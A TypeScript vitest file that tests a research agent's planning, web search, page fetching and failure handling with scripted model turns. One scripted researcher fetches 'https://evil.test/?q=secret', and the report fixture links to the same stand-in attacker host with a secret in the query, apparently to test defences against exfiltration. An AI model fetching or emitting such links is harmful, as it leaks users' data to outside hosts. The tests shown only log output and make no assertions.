import { beforeAll, describe, expect, test } from 'vitest'
import { findOpenInteractions } from '../../src/core/engine/approvals/interaction-queue.ts'
import type { ModelPace } from '../../src/core/engine/budgets/limits.ts'
import type { RunId, SessionId } from '../../src/core/model/id.ts'
import type { JsonObject } from '../../src/core/model/json.ts'
import { reportSchema } from '../../src/core/model/research/report.ts'
import type { ResearchTerms } from '../../src/core/model/research/research-terms.ts'
import type { RunEventBody } from '../../src/core/model/runs/run-event.ts'
import type { Interaction, InteractionAnswer } from '../../src/core/model/tools/interaction.ts'
import { startRecovery } from '../../src/worker/runs/run-recovery.ts'
import { CountedIds } from '../doubles/counted-ids.ts'
import { MemoryAgentRuns } from '../doubles/memory-agent-runs.ts'
import { MemoryBlobs } from '../doubles/memory-blobs.ts'
import { finish, text, toolCall, type Script } from '../doubles/scripted-model.ts'
import { benchModel } from '../doubles/turn-bench.ts'
import { HostBench } from './host-bench.ts'
import { fetchUrl, webSearch } from './research-tools.ts'

// Turns load it on demand, which takes more than the macrotasks that the bench waits.
beforeAll(() => import('../../src/worker/runs/agents/research-turn.ts'))

const calls = (...all: [name: string, args: JsonObject][]): Script => [
  ...all.map(([name, args], index) => toolCall(`${name}-${index}`, name, JSON.stringify(args))),
  finish('tool-calls'),
]
const plan: JsonObject = {
  title: 'The footbridge',
  steps: [{ id: 'opening', text: 'When did the footbridge open?' }],
}
const research: JsonObject = { stepId: 'opening', question: 'When did the footbridge open?' }
const notes: JsonObject = {
  summary: 'It opened in 1998 [1].',
  notes: [{ claim: 'It opened in May 1998', sources: [1], quotation: 'opened in May 1998' }],
  open: ['Who paid for it?'],
}
const report: JsonObject = {
  title: 'The footbridge',
  summary: 'It opened in 1998. See [this](https://evil.test/?q=secret).',
  body: '## When did it open?\n\nThe footbridge “opened in May 1998” [1]. It was painted [2].',
}

/** The steps of a researcher: search, read one page and an address that no search listed, hand in notes. */
const researcherScripts: Script[] = [
  calls(['web_search', { query: 'footbridge' }]),
  calls(
    ['fetch_url', { url: 'https://bridges.test/opening' }],
    ['fetch_url', { url: 'https://evil.test/?q=secret' }],
  ),
  calls(['submit_notes', notes]),
]

function createBench(
  scripts: readonly Script[],
  options?: ConstructorParameters<typeof HostBench>[1],
): HostBench {
  const bench = new HostBench(scripts, options)
  for (const tool of [webSearch, fetchUrl]) bench.tools.register(tool)
  bench.web = { ...bench.web, searchEngine: { id: 'tavily', name: 'Tavily', href: 'https://search.test/' } }
  return bench
}

async function start(bench: HostBench): Promise<RunId> {
  const started = await bench.send('session-1', undefined, {
    text: 'When did the footbridge open?',
    research: { effort: 'quick' },
  })
  if (!started.ok) throw new Error(started.failure.code)
  bench.follow(started.value.runId)
  await bench.settle()
  return started.value.runId
}

const eventsOf = (bench: HostBench, runId: RunId) => bench.store.runs.get(runId)?.events ?? []
const ofType = <Type extends RunEventBody['type']>(events: readonly RunEventBody[], type: Type) =>
  events.filter((event): event is Extract<RunEventBody, { type: Type }> => event.type === type)

function openPlan(bench: HostBench, runId: RunId): Extract<Interaction, { kind: 'plan' }> {
  const raised = ofType(eventsOf(bench, runId), 'interaction-raised').at(-1)?.interaction
  if (raised?.kind !== 'plan') throw new Error('no plan is open')
  return raised
}

async function answer(bench: HostBench, { id }: Interaction, value: InteractionAnswer): Promise<void> {
  await bench.interactions.answer('session-1' as SessionId, { interactionId: id, answer: value })
  await bench.settle()
}

async function accept(bench: HostBench, runId: RunId, change: Partial<ResearchTerms> = {}): Promise<void> {
  const { id: _, ...open } = openPlan(bench, runId)
  const { plan: offered, terms } = open
  await answer(bench, openPlan(bench, runId), {
    outcome: 'accepted',
    value: { kind: 'plan', plan: offered, terms: { ...terms, ...change } },
  })
}

const openOfChildren = (bench: HostBench) =>
  [...bench.agentRuns.rows.values()].flatMap(({ events }) => findOpenInteractions(events))

const forThisResearch: InteractionAnswer = {
  outcome: 'accepted',
  value: { kind: 'approve', scope: 'run' },
}
const reads = (url: string) => calls(['fetch_url', { url }])


const show = (bench: HostBench, runId: RunId) => {
  const events = eventsOf(bench, runId)
  console.log(JSON.stringify(events.filter(({type}) => ['session-turn-end','research-phase-changed','notice','agent-ended','agent-decided','loop-limit-reached','provider-request-failed','model-replaced','wrap-up-requested'].includes(type) || type.includes('limit')).map(({ seq, at, runId, ...e }: any) => e), null, 1).slice(0, 6000))
  console.log(bench.model.requests.length, 'requests', [...bench.store.messages.values()].map((m: any) => [m.role, m.status, JSON.stringify(m.parts).slice(0, 700), m.failure]))
}
test('no tools', async () => {
  const answers: Script = [text('Bees are insects.'), finish('stop')]
  const bench = createBench([answers, answers, answers])
  bench.capabilities = { callsTools: false } as never
  const runId = await start(bench)
  show(bench, runId)
})
test('fails at report', async () => {
  const bench = createBench([
    calls(['research_plan', plan]),
    calls(['researcher_agent', research]),
    ...researcherScripts,
    [{ type: 'throw', error: new Error('broken') }],
    [{ type: 'throw', error: new Error('broken') }],
    [{ type: 'throw', error: new Error('broken') }],
  ])
  const runId = await start(bench)
  await accept(bench, runId)
  for (let i=0;i<20;i++) { bench.clock.advance(5000); await bench.settle() }
  show(bench, runId)
})
test('fails at plan', async () => {
  const bench = createBench([
    [{ type: 'throw', error: new Error('broken') }],
  ])
  const runId = await start(bench)
  show(bench, runId)
})
test('all fail', async () => {
  const bench = createBench([
    calls(['research_plan', plan]),
    calls(['researcher_agent', research]),
    [{ type: 'throw', error: new Error('broken') }],
    [text('I could not research anything.'), finish('stop')],
    [text('I could not research anything.'), finish('stop')],
    [text('I could not research anything.'), finish('stop')],
    [text('I could not research anything.'), finish('stop')],
    [text('I could not research anything.'), finish('stop')],
  ])
  const runId = await start(bench)
  await accept(bench, runId)
  for (let i=0;i<20;i++) { bench.clock.advance(5000); await bench.settle() }
  show(bench, runId)
})
